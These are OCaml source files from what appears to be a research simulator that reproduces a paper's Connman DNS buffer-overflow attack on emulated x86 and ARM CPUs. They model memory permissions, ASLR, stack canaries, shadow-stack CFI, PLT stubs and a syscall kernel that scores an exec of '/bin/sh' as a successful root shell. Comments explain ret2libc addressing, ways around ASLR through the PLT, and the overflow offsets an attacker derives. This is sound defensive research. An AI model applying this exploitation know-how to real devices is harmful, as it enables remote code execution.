          ~arg0:(Cpu.get cpu Insn.EBX)
          ~arg1:(Cpu.get cpu Insn.ECX)
          ~varargs_style:`Array)

let x86 vector cpu = x86_policy () vector cpu

let arm_policy ?no_exec () svc_imm cpu =
  let open Isa_arm in
  if svc_imm <> 0 then O.Stop (O.Aborted (Printf.sprintf "svc 0x%x" svc_imm))
  else
    guard (fun () ->
        dispatch ?no_exec cpu.Cpu.mem
          ~number:(Cpu.get cpu Insn.R7)
          ~arg0:(Cpu.get cpu Insn.R0)
          ~arg1:(Cpu.get cpu Insn.R1)
          ~varargs_style:`Single)

let arm svc_imm cpu = arm_policy () svc_imm cpu
