(** The simulated kernel: system-call handlers for both CPUs.

    An [exec]-family call stops the run with {!Machine.Outcome.Exec} —
    when the path is a shell, that is the paper's "root shell spawned"
    success criterion (Connman runs as root, so no privilege boundary is
    crossed). *)

val x86 : Isa_x86.Cpu.kernel
(** Linux i386 convention: [int 0x80], number in eax, args in ebx/ecx/edx. *)

val arm : Isa_arm.Cpu.kernel
(** ARM EABI convention: [svc 0], number in r7, args in r0–r2. *)

val x86_policy : ?no_exec:bool -> unit -> Isa_x86.Cpu.kernel
(** [no_exec] applies a seccomp-style filter: [exec]-family syscalls kill
    the process ([Aborted "seccomp: exec denied"]). *)

val arm_policy : ?no_exec:bool -> unit -> Isa_arm.Cpu.kernel
