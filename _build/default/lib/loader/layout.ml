type t = {
  arch : Arch.t;
  text_base : int;
  text_size : int;
  plt_base : int;
  plt_size : int;
  got_base : int;
  got_size : int;
  bss_base : int;
  bss_size : int;
  tls_base : int;
  heap_base : int;
  heap_size : int;
  stack_base : int;
  stack_size : int;
  stack_top : int;
  env_size : int;
  libc_base : int;
  canary_value : int option;
}

let page = Memsim.Memory.page_size
let round_up v = (v + page - 1) land lnot (page - 1)

let text_base_of = function Arch.X86 -> 0x0804_8000 | Arch.Arm -> 0x0001_0000
let libc_base_static = function Arch.X86 -> 0xB750_0000 | Arch.Arm -> 0x76F0_0000
let stack_top_static = function Arch.X86 -> 0xBFFF_E000 | Arch.Arm -> 0x7EFF_E000

let compute ~arch ~profile ~rng ?(text_size = 0x8000) ?(bss_size = 0x2000) () =
  let open Defense.Profile in
  let text_base = text_base_of arch in
  let text_size = round_up text_size in
  let plt_base = text_base + text_size in
  let plt_size = page in
  let got_base = plt_base + plt_size in
  let got_size = page in
  let bss_base = got_base + got_size in
  let bss_size = round_up bss_size in
  let tls_base = bss_base + bss_size in
  let heap_base = tls_base + page in
  let heap_size = 0x1_0000 in
  let entropy () =
    if profile.aslr then Memsim.Rng.bits rng (min 30 profile.aslr_entropy_bits)
    else 0
  in
  (* Randomization subtracts whole pages from the static base, as mmap ASLR
     does: the attacker-facing consequence is that hardcoded libc/stack
     addresses are wrong for all but 1 in 2^bits boots. *)
  let libc_base = libc_base_static arch - (entropy () * page) in
  let stack_top = stack_top_static arch - (entropy () * page) in
  let stack_size = 0x20000 in
  let env_size = page in
  let canary_value =
    if profile.canary then
      (* Terminator-style canary: NUL low byte, random upper bytes. *)
      Some (Memsim.Rng.bits rng 24 lsl 8)
    else None
  in
  {
    arch;
    text_base;
    text_size;
    plt_base;
    plt_size;
    got_base;
    got_size;
    bss_base;
    bss_size;
    tls_base;
    heap_base;
    heap_size;
    stack_base = stack_top - stack_size;
    stack_size;
    stack_top;
    env_size;
    libc_base;
    canary_value;
  }

let pp ppf t =
  Format.fprintf ppf
    "@[<v>%a layout:@,\
     text  %a+0x%x@,\
     plt   %a@,\
     got   %a@,\
     bss   %a+0x%x@,\
     stack %a..%a (top %a)@,\
     libc  %a@]"
    Arch.pp t.arch Memsim.Word.pp t.text_base t.text_size Memsim.Word.pp
    t.plt_base Memsim.Word.pp t.got_base Memsim.Word.pp t.bss_base t.bss_size
    Memsim.Word.pp t.stack_base Memsim.Word.pp
    (t.stack_base + t.stack_size)
    Memsim.Word.pp t.stack_top Memsim.Word.pp t.libc_base
