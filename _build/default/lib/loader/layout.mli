(** Address-space layout of a booted process.

    Mirrors a non-PIE Linux process, which is the exact asymmetry the
    paper's §III-C attack exploits: the main image (.text, .plt, .got,
    .bss) sits at a fixed, architecture-conventional base, while the libc
    image and the stack move under ASLR.

    Conventional bases: x86 text at 0x08048000, stack under 0xC0000000,
    libc around 0xB7xxxxxx; ARM text at 0x00010000, stack under
    0x7F000000, libc around 0x76xxxxxx (matching the addresses visible in
    the paper's listings). *)

type t = {
  arch : Arch.t;
  text_base : int;
  text_size : int;
  plt_base : int;
  plt_size : int;
  got_base : int;
  got_size : int;
  bss_base : int;
  bss_size : int;
  tls_base : int;  (** one page holding the stack-canary cookie *)
  heap_base : int;  (** rw scratch/heap; DNS datagrams are received here *)
  heap_size : int;
  stack_base : int;  (** lowest mapped stack address *)
  stack_size : int;
  stack_top : int;  (** initial stack pointer (grows down from here) *)
  env_size : int;  (** mapped bytes above [stack_top] (argv/env area) *)
  libc_base : int;
  canary_value : int option;  (** per-boot cookie when the profile asks for one *)
}

val compute :
  arch:Arch.t ->
  profile:Defense.Profile.t ->
  rng:Memsim.Rng.t ->
  ?text_size:int ->
  ?bss_size:int ->
  unit ->
  t
(** Under ASLR, the libc base and the stack position are drawn from [rng]
    with [profile.aslr_entropy_bits] pages of entropy; otherwise they are
    the fixed conventional values (what {!libc_base_static} reports). *)

val text_base_of : Arch.t -> int
(** Fixed (non-PIE) main-image base: 0x08048000 on x86, 0x00010000 on ARM. *)

val libc_base_static : Arch.t -> int
(** The ASLR-off libc base — the address an attacker hardcodes for a
    ret2libc payload (§III-B1). *)

val stack_top_static : Arch.t -> int

val pp : Format.formatter -> t -> unit
