type t = {
  code : string;
  got : (int * int) list;
  symbols : (string * int) list;
}

let synthesize_x86 ~plt_base ~got_base ~imports =
  let buf = Buffer.create 64 in
  let stub_size = 6 in
  let entries =
    List.mapi
      (fun i (name, libc_addr) ->
        let stub = plt_base + (i * stub_size) in
        let slot = got_base + (i * 4) in
        Buffer.add_string buf
          (Isa_x86.Encode.encode
             (Isa_x86.Insn.Jmp_rm (Isa_x86.Insn.Mem { base = None; disp = slot })));
        ((name ^ "@plt", stub), (slot, libc_addr)))
      imports
  in
  {
    code = Buffer.contents buf;
    got = List.map snd entries;
    symbols = List.map fst entries;
  }

let synthesize_arm ~plt_base ~got_base ~imports =
  let open Isa_arm in
  let buf = Buffer.create 64 in
  let stub_size = 16 in
  let entries =
    List.mapi
      (fun i (name, libc_addr) ->
        let stub = plt_base + (i * stub_size) in
        let slot = got_base + (i * 4) in
        (* ldr ip, [pc, #4] targets the literal at stub+12 (pc reads
           stub+8). *)
        Buffer.add_string buf (Encode.encode (Insn.al (Insn.Ldr (Insn.R12, Insn.PC, 4))));
        Buffer.add_string buf (Encode.encode (Insn.al (Insn.Ldr (Insn.R12, Insn.R12, 0))));
        Buffer.add_string buf (Encode.encode (Insn.al (Insn.Bx Insn.R12)));
        Buffer.add_char buf (Char.chr (slot land 0xFF));
        Buffer.add_char buf (Char.chr ((slot lsr 8) land 0xFF));
        Buffer.add_char buf (Char.chr ((slot lsr 16) land 0xFF));
        Buffer.add_char buf (Char.chr ((slot lsr 24) land 0xFF));
        ((name ^ "@plt", stub), (slot, libc_addr)))
      imports
  in
  ignore stub_size;
  {
    code = Buffer.contents buf;
    got = List.map snd entries;
    symbols = List.map fst entries;
  }

let synthesize ~arch ~plt_base ~got_base ~imports =
  match arch with
  | Arch.X86 -> synthesize_x86 ~plt_base ~got_base ~imports
  | Arch.Arm -> synthesize_arm ~plt_base ~got_base ~imports
