(** Procedure Linkage Table synthesis.

    PLT stubs live in the (fixed-base) main image and jump through GOT
    slots the loader fills at boot with the (possibly ASLR-randomized)
    libc addresses.  This is the §III-B2/§III-C mechanism: a call through
    ["execlp@plt"] works without knowing where libc landed.

    x86 stub: [jmp dword \[got_slot\]] (6 bytes).
    ARM stub: [ldr ip, \[pc, #4\]; ldr ip, \[ip\]; bx ip; .word got_slot]
    (16 bytes). *)

type t = {
  code : string;  (** PLT bytes, to be mapped r-x at [plt_base] *)
  got : (int * int) list;  (** (got slot address, resolved libc address) *)
  symbols : (string * int) list;  (** ["name@plt"] → stub address *)
}

val synthesize :
  arch:Arch.t ->
  plt_base:int ->
  got_base:int ->
  imports:(string * int) list ->
  t
(** [imports] maps function names to their resolved libc addresses. *)
