lib/machine/outcome.ml: Format List Memsim String
