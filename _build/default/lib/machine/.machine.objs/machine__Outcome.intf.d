lib/machine/outcome.mli: Format Memsim
