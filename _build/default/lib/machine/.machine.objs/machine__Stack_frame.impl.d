lib/machine/stack_frame.ml:
