lib/machine/stack_frame.mli:
