lib/machine/sysno.ml:
