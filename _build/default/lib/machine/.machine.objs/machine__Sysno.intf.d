lib/machine/sysno.mli:
