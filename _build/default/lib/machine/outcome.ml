type stop_reason =
  | Halted
  | Exited of int
  | Exec of { path : string; args : string list }
  | Fault of Memsim.Memory.fault
  | Decode_error of { addr : int; byte : int }
  | Cfi_violation of { at : int; expected : int; got : int }
  | Aborted of string
  | Fuel_exhausted

let is_crash = function
  | Fault _ | Decode_error _ | Fuel_exhausted -> true
  | Halted | Exited _ | Exec _ | Cfi_violation _ | Aborted _ -> false

let shell_names = [ "/bin/sh"; "sh"; "/bin/bash"; "bash" ]

let is_shell = function
  | Exec { path; _ } -> List.mem path shell_names
  | Halted | Exited _ | Fault _ | Decode_error _ | Cfi_violation _ | Aborted _
  | Fuel_exhausted ->
      false

let is_blocked = function
  | Cfi_violation _ | Aborted _ -> true
  | Halted | Exited _ | Exec _ | Fault _ | Decode_error _ | Fuel_exhausted -> false

let pp ppf = function
  | Halted -> Format.fprintf ppf "halted (normal return)"
  | Exited n -> Format.fprintf ppf "exited(%d)" n
  | Exec { path; args } ->
      Format.fprintf ppf "exec(%s%s)" path
        (match args with [] -> "" | l -> ", [" ^ String.concat "; " l ^ "]")
  | Fault f -> Memsim.Memory.pp_fault ppf f
  | Decode_error { addr; byte } ->
      Format.fprintf ppf "illegal instruction at %a (byte 0x%02x)" Memsim.Word.pp
        addr byte
  | Cfi_violation { at; expected; got } ->
      Format.fprintf ppf
        "CFI violation at %a: return to %a but shadow stack expected %a"
        Memsim.Word.pp at Memsim.Word.pp got Memsim.Word.pp expected
  | Aborted why -> Format.fprintf ppf "aborted: %s" why
  | Fuel_exhausted -> Format.fprintf ppf "fuel exhausted (hang)"

let to_string r = Format.asprintf "%a" pp r

type syscall_result = Resume | Stop of stop_reason
