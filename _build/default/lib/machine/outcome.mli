(** Architecture-independent execution outcomes.

    Both simulated CPUs (x86-32 and ARMv7) report why execution stopped
    using this one vocabulary, so the attack harness can classify results
    uniformly: a {!Fault} or {!Decode_error} is the paper's denial-of-service
    outcome, {!Exec} of a shell is remote code execution, and
    {!Cfi_violation} is a defense win. *)

type stop_reason =
  | Halted
      (** Control reached a designated trap address — the benign "function
          returned to its caller" completion. *)
  | Exited of int  (** [exit(n)] system call. *)
  | Exec of { path : string; args : string list }
      (** An [exec]-family system call replaced the process image.  When
          [path] resolves to a shell, the attacker has won. *)
  | Fault of Memsim.Memory.fault  (** SIGSEGV analogue. *)
  | Decode_error of { addr : int; byte : int }
      (** SIGILL analogue: fetch of an undecodable instruction. *)
  | Cfi_violation of { at : int; expected : int; got : int }
      (** The shadow-stack CFI monitor vetoed a return (§IV mitigation). *)
  | Aborted of string
      (** Guest code invoked [abort] — e.g. [__stack_chk_fail] after stack
          canary corruption. *)
  | Fuel_exhausted  (** Instruction budget exceeded (hang / livelock). *)

val is_crash : stop_reason -> bool
(** Faults, decode errors and hangs — the DoS class. *)

val is_shell : stop_reason -> bool
(** [Exec] of something that resolves to a shell ("/bin/sh", "sh", …). *)

val is_blocked : stop_reason -> bool
(** The run was stopped by a defense (CFI violation or canary abort). *)

val pp : Format.formatter -> stop_reason -> unit
val to_string : stop_reason -> string

type syscall_result = Resume | Stop of stop_reason
(** What a system-call handler tells the interpreter to do next. *)
