type t = {
  buffer_size : int;
  off_null1 : int;
  off_null2 : int;
  off_canary : int;
  off_saved : (string * int) list;
  off_ret : int;
  frame_end : int;
}

let null_window t = (t.off_null1, max 0 (t.off_null2 + 4 - t.off_null1))
