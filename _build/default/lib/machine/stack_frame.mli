(** Stack-frame geometry of an overflow target.

    The vocabulary an attacker derives with a debugger from any
    stack-based buffer overflow (§V: the approach "can work out-of-the-box
    (with minimal modification) against DNS-based overflow
    vulnerabilities" — the modification being precisely these offsets):
    how large the buffer is and where, relative to its start, the
    overwrite reaches interesting slots. *)

type t = {
  buffer_size : int;
  off_null1 : int;
      (** pointer local dereferenced-when-non-NULL before the hijack
          point (0-width convention: equal to [off_null2] when absent) *)
  off_null2 : int;
  off_canary : int;  (** canary slot (meaningful when canaries are on) *)
  off_saved : (string * int) list;
      (** callee-saved register slots — don't-care payload positions *)
  off_ret : int;  (** saved return address / lr slot *)
  frame_end : int;  (** bytes from buffer start to past the frame *)
}

val null_window : t -> int * int
(** [(off_null1, bytes)] — the zero-fill window payloads must respect;
    [bytes] may be 0. *)
