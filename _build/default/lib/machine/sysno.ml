let exit = 1
let write = 4
let execve = 11
let abort = 252
let stack_chk_fail = 253
let exec_varargs = 254
