(** System-call numbers of the simulated kernel ABI.

    [exit] and [execve] match Linux's i386/ARM-EABI numbering (both 1 and
    11).  The remaining vectors are simulator-private: [exec_varargs]
    backs [execlp]-style calls, and [abort]/[stack_chk_fail] let libc
    routines signal abnormal termination to the host without needing a
    signal implementation. *)

val exit : int  (* 1 *)
val write : int  (* 4 *)
val execve : int  (* 11 *)
val abort : int  (* 252 *)
val stack_chk_fail : int  (* 253 *)
val exec_varargs : int  (* 254 *)
