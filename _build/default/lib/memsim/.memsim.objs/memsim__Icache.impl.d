lib/memsim/icache.ml: Array Hashtbl Memory Word
