lib/memsim/icache.mli: Memory
