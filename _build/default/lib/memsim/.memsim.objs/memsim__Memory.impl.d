lib/memsim/memory.ml: Buffer Bytes Char Format Hashtbl List Printf String Word
