lib/memsim/memory.mli: Format
