lib/memsim/rng.ml: Array Float Int64
