lib/memsim/rng.mli:
