lib/memsim/word.ml: Format Printf Stdlib
