lib/memsim/word.mli: Format
