(* Decoded-instruction cache keyed by (page, offset), invalidated by
   {!Memory}'s per-page write-generation counters.

   Decoding is the interpreter's hot path: the x86 decoder pulls bytes one
   at a time through closures and allocates an instruction record per
   step; the ARM decoder refetches and re-cracks the same word every time
   a loop body comes around.  Both interpreters execute overwhelmingly
   out of a handful of text pages, so caching the decoded form per
   address and validating it with a couple of integer compares removes
   the whole decode cost.

   Correctness under self-modifying code (shellcode written to an rwx
   stack and then executed, the paper's §III-A) comes entirely from the
   generation protocol: every byte store and permission change gives the
   page a fresh, never-reused generation, and an entry only hits while
   the generation(s) it was filled under are still current.  An entry
   holds the page's generation *cell* ({!Memory.gen_ref}) plus a
   snapshot, so validation is a load + compare with no call back into
   {!Memory}.  An x86 instruction may straddle a page boundary, so an
   entry records the cell/snapshot of the page holding its last byte
   too; non-straddling entries alias the two cells ([hi == lo]) and skip
   the second probe.

   The slot arrays hold a [dummy] entry rather than [option]s: the dummy
   carries a private cell whose value never equals its snapshot, so it
   can never validate.  This keeps the hit path free of [Some] boxes —
   it runs once per interpreted instruction. *)

type 'a entry = {
  v : 'a;
  len : int;
  lo : int ref;  (* generation cell of the first byte's page *)
  lo_gen : int;  (* its value at fill time *)
  hi : int ref;  (* last byte's page; [== lo] unless straddling *)
  hi_gen : int;
}

type 'a t = {
  mem : Memory.t;
  dummy : 'a entry;
  pages : (int, 'a entry array) Hashtbl.t;
  mutable last_idx : int;
  mutable last_slots : 'a entry array;
  mutable hits : int;
  mutable misses : int;
}

let create ~dummy mem =
  (* The dummy's snapshot (-1) never equals its cell's value (0), so it
     can never validate — lookup always takes the miss path on a
     never-filled slot. *)
  let cell = ref 0 in
  {
    mem;
    dummy = { v = dummy; len = 1; lo = cell; lo_gen = -1; hi = cell; hi_gen = -1 };
    pages = Hashtbl.create 16;
    last_idx = -1;
    last_slots = [||];
    hits = 0;
    misses = 0;
  }

let hits t = t.hits
let misses t = t.misses

let clear t =
  Hashtbl.reset t.pages;
  t.last_idx <- -1;
  t.last_slots <- [||]

let slots t idx =
  if idx = t.last_idx then t.last_slots
  else begin
    let s =
      match Hashtbl.find_opt t.pages idx with
      | Some s -> s
      | None ->
          let s = Array.make Memory.page_size t.dummy in
          Hashtbl.add t.pages idx s;
          s
    in
    t.last_idx <- idx;
    t.last_slots <- s;
    s
  end

(* A live page's cell always holds its current generation, a retired
   (unmapped) page's cell holds a generation newer than any snapshot
   taken from it, and a remapped page gets a brand-new cell — so the
   compare below is exact, never merely probabilistic. *)
let lookup t addr ~decode =
  let addr = Word.of_int addr in
  let off = addr land (Memory.page_size - 1) in
  let s = slots t (addr lsr Memory.page_bits) in
  let e = Array.unsafe_get s off in
  if !(e.lo) = e.lo_gen && (e.hi == e.lo || !(e.hi) = e.hi_gen) then begin
    t.hits <- t.hits + 1;
    e
  end
  else begin
    (* Miss or stale.  [decode] fetches through the memory's execute
       permission check, so nothing is ever cached from a page that was
       not executable at decode time — and a later [set_perm] bumps the
       generation, forcing this path (and its NX check) to run again. *)
    let v, len = decode t.mem addr in
    t.misses <- t.misses + 1;
    let lo = Memory.gen_ref t.mem addr in
    let hi =
      if off + len <= Memory.page_size then lo
      else Memory.gen_ref t.mem (addr + len - 1)
    in
    let e = { v; len; lo; lo_gen = !lo; hi; hi_gen = !hi } in
    Array.unsafe_set s off e;
    e
  end
