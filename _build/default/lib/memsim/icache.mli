(** Write-invalidated decoded-instruction cache over {!Memory}.

    Shared by both interpreters (the cached value type ['a] is the ISA's
    instruction type): each address decodes at most once per generation
    of the page(s) holding its bytes, and {!Memory}'s per-page write
    generations invalidate entries automatically — a byte store,
    [mprotect], or unmap/remap of an executed page forces a re-decode,
    which keeps execution bit-identical under self-modifying code
    (shellcode written to the stack and then run). *)

type 'a entry = private {
  v : 'a;
  len : int;
  lo : int ref;  (** generation cell of the page holding the first byte *)
  lo_gen : int;  (** its value when the entry was filled *)
  hi : int ref;  (** last byte's page; [== lo] unless the encoding straddles *)
  hi_gen : int;
}
(** A decoded instruction [v] of encoded length [len], valid while the
    generation cell(s) of the page(s) it was decoded from still hold the
    snapshotted values (see {!Memory.gen_ref}). *)

type 'a t

val create : dummy:'a -> Memory.t -> 'a t
(** [dummy] is any value of the instruction type; it pre-fills the slot
    arrays (with a generation no live page can have) so the hit path
    needs no [option] box.  It is never returned by {!lookup}. *)

val lookup : 'a t -> int -> decode:(Memory.t -> int -> 'a * int) -> 'a entry
(** [lookup t addr ~decode] returns the cached decode of the instruction
    at [addr], calling [decode t.mem addr] (which must return the decoded
    value and its encoded byte length) on a miss or stale entry.
    Exceptions from [decode] — decode errors, NX faults — propagate and
    cache nothing.  Pass a top-level function for [decode] so the hit
    path allocates nothing. *)

val hits : 'a t -> int
val misses : 'a t -> int
(** Fill + invalidation counters (observability; the invalidation tests
    assert a rewrite of an executed page forces a miss). *)

val clear : 'a t -> unit
(** Drop every entry (the generation protocol makes this unnecessary for
    correctness; provided for tests and memory reclamation). *)
