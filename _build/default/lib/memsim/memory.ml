type perm = { read : bool; write : bool; execute : bool }

let r = { read = true; write = false; execute = false }
let rw = { read = true; write = true; execute = false }
let rx = { read = true; write = false; execute = true }
let rwx = { read = true; write = true; execute = true }
let none = { read = false; write = false; execute = false }

let pp_perm ppf p =
  Format.fprintf ppf "%c%c%c"
    (if p.read then 'r' else '-')
    (if p.write then 'w' else '-')
    (if p.execute then 'x' else '-')

type fault_kind = Unmapped | Perm_read | Perm_write | Perm_exec
type fault = { addr : int; kind : fault_kind; context : string }

exception Fault of fault

let fault_kind_to_string = function
  | Unmapped -> "unmapped"
  | Perm_read -> "read-protected"
  | Perm_write -> "write-protected"
  | Perm_exec -> "exec-protected (NX)"

let pp_fault ppf f =
  Format.fprintf ppf "memory fault at %a: %s (%s)" Word.pp f.addr
    (fault_kind_to_string f.kind)
    f.context

let fault_to_string f = Format.asprintf "%a" pp_fault f

type region = { name : string; base : int; size : int; perm : perm }

type page = { mutable pperm : perm; data : Bytes.t }

let page_size = 4096
let page_bits = 12

type t = { pages : (int, page) Hashtbl.t; mutable regs : region list }

let create () = { pages = Hashtbl.create 64; regs = [] }

let page_index addr = addr lsr page_bits
let fault addr kind context = raise (Fault { addr; kind; context })

let page_range ~base ~size =
  let first = page_index base and last = page_index (base + size - 1) in
  (first, last)

let map t ~base ~size ~perm ~name =
  if size <= 0 then invalid_arg "Memory.map: size must be positive";
  if base < 0 || base + size > 0x1_0000_0000 then
    invalid_arg "Memory.map: region outside 32-bit address space";
  let first, last = page_range ~base ~size in
  for i = first to last do
    if Hashtbl.mem t.pages i then
      invalid_arg
        (Printf.sprintf "Memory.map: %s overlaps existing mapping at page %s"
           name
           (Word.to_hex (i lsl page_bits)))
  done;
  for i = first to last do
    Hashtbl.replace t.pages i { pperm = perm; data = Bytes.make page_size '\000' }
  done;
  t.regs <- { name; base; size; perm } :: t.regs

let unmap t ~base =
  let reg = List.find (fun reg -> reg.base = base) t.regs in
  let first, last = page_range ~base ~size:reg.size in
  for i = first to last do
    Hashtbl.remove t.pages i
  done;
  t.regs <- List.filter (fun reg -> reg.base <> base) t.regs

let set_perm t ~base perm =
  let reg = List.find (fun reg -> reg.base = base) t.regs in
  let first, last = page_range ~base ~size:reg.size in
  for i = first to last do
    match Hashtbl.find_opt t.pages i with
    | Some p -> p.pperm <- perm
    | None -> ()
  done;
  t.regs <-
    List.map
      (fun r0 -> if r0.base = base then { r0 with perm } else r0)
      t.regs

let regions t = List.sort (fun a b -> compare a.base b.base) t.regs

let region_at t addr =
  List.find_opt (fun reg -> addr >= reg.base && addr < reg.base + reg.size) t.regs

let find_region t name = List.find (fun reg -> reg.name = name) t.regs
let is_mapped t addr = Hashtbl.mem t.pages (page_index addr)

(* Core byte access.  [check] selects the permission bit to verify; the
   [context] string ends up in the fault record for diagnostics. *)

let get_page t addr context =
  match Hashtbl.find_opt t.pages (page_index addr) with
  | Some p -> p
  | None -> fault addr Unmapped context

let read_u8 t addr =
  let addr = Word.of_int addr in
  let p = get_page t addr "read" in
  if not p.pperm.read then fault addr Perm_read "read";
  Char.code (Bytes.get p.data (addr land (page_size - 1)))

let write_u8 t addr v =
  let addr = Word.of_int addr in
  let p = get_page t addr "write" in
  if not p.pperm.write then fault addr Perm_write "write";
  Bytes.set p.data (addr land (page_size - 1)) (Char.chr (v land 0xFF))

let fetch_u8 t addr =
  let addr = Word.of_int addr in
  let p = get_page t addr "fetch" in
  if not p.pperm.execute then fault addr Perm_exec "fetch";
  Char.code (Bytes.get p.data (addr land (page_size - 1)))

(* Bind bytes in ascending order: the lowest offending address must be the
   one reported in a fault. *)
let read_u16 t addr =
  let b0 = read_u8 t addr in
  let b1 = read_u8 t (addr + 1) in
  b0 lor (b1 lsl 8)

let read_u32 t addr =
  let b0 = read_u8 t addr in
  let b1 = read_u8 t (addr + 1) in
  let b2 = read_u8 t (addr + 2) in
  let b3 = read_u8 t (addr + 3) in
  b0 lor (b1 lsl 8) lor (b2 lsl 16) lor (b3 lsl 24)

let write_u16 t addr v =
  write_u8 t addr (v land 0xFF);
  write_u8 t (addr + 1) ((v lsr 8) land 0xFF)

let write_u32 t addr v =
  write_u8 t addr (v land 0xFF);
  write_u8 t (addr + 1) ((v lsr 8) land 0xFF);
  write_u8 t (addr + 2) ((v lsr 16) land 0xFF);
  write_u8 t (addr + 3) ((v lsr 24) land 0xFF)

let fetch_u32 t addr =
  let b0 = fetch_u8 t addr in
  let b1 = fetch_u8 t (addr + 1) in
  let b2 = fetch_u8 t (addr + 2) in
  let b3 = fetch_u8 t (addr + 3) in
  b0 lor (b1 lsl 8) lor (b2 lsl 16) lor (b3 lsl 24)

let read_bytes t addr len =
  String.init len (fun i -> Char.chr (read_u8 t (addr + i)))

let write_bytes t addr s = String.iteri (fun i c -> write_u8 t (addr + i) (Char.code c)) s

let read_cstring t ?(max = 4096) addr =
  let buf = Buffer.create 16 in
  let rec loop i =
    if i >= max then Buffer.contents buf
    else
      match read_u8 t (addr + i) with
      | 0 -> Buffer.contents buf
      | c ->
          Buffer.add_char buf (Char.chr c);
          loop (i + 1)
  in
  loop 0

let peek_u8 t addr =
  let addr = Word.of_int addr in
  let p = get_page t addr "peek" in
  Char.code (Bytes.get p.data (addr land (page_size - 1)))

let peek_bytes t addr len = String.init len (fun i -> Char.chr (peek_u8 t (addr + i)))

let poke_bytes t addr s =
  String.iteri
    (fun i c ->
      let a = Word.of_int (addr + i) in
      let p = get_page t a "poke" in
      Bytes.set p.data (a land (page_size - 1)) c)
    s

let hexdump t ~base ~len =
  let buf = Buffer.create (len * 4) in
  let lines = (len + 15) / 16 in
  for line = 0 to lines - 1 do
    let addr = base + (line * 16) in
    Buffer.add_string buf (Printf.sprintf "%08x  " addr);
    for i = 0 to 15 do
      if (line * 16) + i < len then
        Buffer.add_string buf (Printf.sprintf "%02x " (peek_u8 t (addr + i)))
      else Buffer.add_string buf "   ";
      if i = 7 then Buffer.add_char buf ' '
    done;
    Buffer.add_string buf " |";
    for i = 0 to 15 do
      if (line * 16) + i < len then begin
        let c = peek_u8 t (addr + i) in
        Buffer.add_char buf (if c >= 0x20 && c < 0x7F then Char.chr c else '.')
      end
    done;
    Buffer.add_string buf "|\n"
  done;
  Buffer.contents buf

let pp_layout ppf t =
  List.iter
    (fun reg ->
      Format.fprintf ppf "%a-%a %a %s@." Word.pp reg.base Word.pp
        (reg.base + reg.size) pp_perm reg.perm reg.name)
    (regions t)
