(* SplitMix64, truncated to OCaml's 63-bit native int.  Chosen for
   determinism and statelessness across platforms; quality is ample for
   layout randomization and simulation jitter. *)

type t = { mutable state : int64 }

let create seed = { state = Int64.of_int seed }

let golden = 0x9E3779B97F4A7C15L

let next_raw t =
  t.state <- Int64.add t.state golden;
  let z = t.state in
  let z = Int64.mul (Int64.logxor z (Int64.shift_right_logical z 30)) 0xBF58476D1CE4E5B9L in
  let z = Int64.mul (Int64.logxor z (Int64.shift_right_logical z 27)) 0x94D049BB133111EBL in
  Int64.logxor z (Int64.shift_right_logical z 31)

(* Keep 62 bits so the result is always a non-negative native int. *)
let next64 t = Int64.to_int (Int64.shift_right_logical (next_raw t) 2)

let split t =
  let seed = next64 t in
  { state = Int64.of_int seed }

let int t bound =
  if bound <= 0 then invalid_arg "Rng.int: bound must be positive";
  next64 t mod bound

let bits t n =
  if n < 0 || n > 30 then invalid_arg "Rng.bits: n must be in [0, 30]";
  if n = 0 then 0 else next64 t land ((1 lsl n) - 1)

let bool t = next64 t land 1 = 1
let float t = Float.of_int (next64 t land ((1 lsl 53) - 1)) /. Float.of_int (1 lsl 53)

let shuffle t a =
  for i = Array.length a - 1 downto 1 do
    let j = int t (i + 1) in
    let tmp = a.(i) in
    a.(i) <- a.(j);
    a.(j) <- tmp
  done
