(** Deterministic pseudo-random number generator (SplitMix64).

    Every stochastic element of the reproduction — ASLR base selection,
    software-diversity shuffles, network jitter — draws from an explicit,
    seeded generator so that every experiment is replayable bit-for-bit. *)

type t

val create : int -> t
(** [create seed] — the same seed always yields the same stream. *)

val split : t -> t
(** Derive an independent generator (for giving each device its own
    stream without coupling their draws). *)

val next64 : t -> int
(** Next raw 62-bit non-negative value (OCaml [int]). *)

val int : t -> int -> int
(** [int t bound] is uniform in [0, bound).  [bound] must be positive. *)

val bits : t -> int -> int
(** [bits t n] is an [n]-bit uniform value, [0 <= n <= 30]. *)

val bool : t -> bool

val float : t -> float
(** Uniform in [0, 1). *)

val shuffle : t -> 'a array -> unit
(** In-place Fisher–Yates shuffle. *)
