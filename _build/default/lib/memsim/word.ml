let mask = 0xFFFF_FFFF
let of_int x = x land mask
let add a b = (a + b) land mask
let sub a b = (a - b) land mask
let mul a b = a * b land mask
let neg a = -a land mask
let lognot a = Stdlib.lnot a land mask
let to_signed w = if w land 0x8000_0000 <> 0 then w - 0x1_0000_0000 else w
let of_signed x = x land mask
let sign8 b = if b land 0x80 <> 0 then b lor 0xFFFF_FF00 land mask else b land 0xFF
let sign16 h = if h land 0x8000 <> 0 then h lor 0xFFFF_0000 land mask else h land 0xFFFF
let bit w i = (w lsr i) land 1 = 1

let ror w n =
  let n = n land 31 in
  if n = 0 then w land mask else ((w lsr n) lor (w lsl (32 - n))) land mask

let pp ppf w = Format.fprintf ppf "0x%08x" (of_int w)
let to_hex w = Printf.sprintf "0x%08x" (of_int w)
