(** 32-bit word arithmetic over native [int].

    Addresses and machine words throughout the simulator are OCaml [int]
    values constrained to the range [0, 2^32).  All operations here wrap
    modulo 2^32, matching the behaviour of a 32-bit CPU. *)

val mask : int
(** [0xFFFF_FFFF]. *)

val of_int : int -> int
(** Truncate an arbitrary integer to 32 bits (two's complement wrap). *)

val add : int -> int -> int
(** Wrapping 32-bit addition. *)

val sub : int -> int -> int
(** Wrapping 32-bit subtraction. *)

val mul : int -> int -> int
(** Wrapping 32-bit multiplication. *)

val neg : int -> int
(** Two's-complement negation. *)

val lognot : int -> int
(** Bitwise complement within 32 bits. *)

val to_signed : int -> int
(** Reinterpret a 32-bit word as a signed integer in [-2^31, 2^31). *)

val of_signed : int -> int
(** Inverse of {!to_signed}: encode a (possibly negative) integer as a
    32-bit two's-complement word. *)

val sign8 : int -> int
(** Sign-extend the low 8 bits to a full 32-bit word. *)

val sign16 : int -> int
(** Sign-extend the low 16 bits to a full 32-bit word. *)

val bit : int -> int -> bool
(** [bit w i] is bit [i] (0 = least significant) of [w]. *)

val ror : int -> int -> int
(** [ror w n] rotates the 32-bit word [w] right by [n] bits. *)

val pp : Format.formatter -> int -> unit
(** Print as [0x%08x]. *)

val to_hex : int -> string
(** [to_hex w] is the ["0x%08x"] rendering of [w]. *)
